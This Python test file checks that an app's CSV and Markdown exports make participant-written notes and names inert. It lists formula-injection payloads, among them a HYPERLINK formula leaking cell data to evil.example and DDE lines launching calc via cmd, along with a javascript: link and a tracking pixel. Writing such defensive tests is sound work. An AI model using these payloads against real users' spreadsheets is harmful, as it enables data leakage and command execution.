"""Exports that carry attacks, against a real `worldcafe run` process: notes and a name written
to be formulas, links and tracking images come out inert in CSV and Markdown."""

from __future__ import annotations

import csv
import io
import uuid

import requests
from markdown_it import MarkdownIt

from tests.live_clients import connect, join, start_round
from tests.live_server import LiveServer

HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2 said the spreadsheet",
    "[click](javascript:alert(1)) and ![pixel](http://track.example/p.gif)",
]
HOSTILE_NAME = '=HYPERLINK("http://evil.example","me")'


def test_csv_and_markdown_exports_neutralise_what_participants_wrote(server: LiveServer) -> None:
    links = server.create_cafe(
        {
            "title": "Café Sécurité",
            "language": "en",
            "rounds": 1,
            "round_minutes": 10,
            "themes": [{"name": "Trust", "tables": 1, "questions": ["What do we trust?"]}],
        }
    )
    phone = join(links, HOSTILE_NAME)
    start_round(links)
    client = connect(server, phone, links["cafe_id"], "participant")
    try:
        for text in HOSTILE_NOTES:
            ack = client.call(
                "note:add", {"client_id": str(uuid.uuid4()), "text": text}, timeout=15
            )
            assert ack["ok"], ack
    finally:
        client.disconnect()

    base = links["organiser_url"] + "/export"
    response = requests.get(base + "?format=csv", timeout=120)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert (
        "filename*=UTF-8''caf%C3%A9-s%C3%A9curit%C3%A9-harvest.csv"
        in (response.headers["Content-Disposition"])
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    texts = {row["text"] for row in rows}
    for text in HOSTILE_NOTES[:4]:
        assert "'" + text in texts
    assert {row["author"] for row in rows} == {"'" + HOSTILE_NAME}
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())

    markdown = requests.get(base + "?format=md", timeout=120)
    assert markdown.headers["Cache-Control"] == "no-store"
    html = MarkdownIt("commonmark").render(markdown.content.decode("utf-8"))
    assert "<a " not in html and "<img" not in html
    assert "click" in html and "pixel" in html
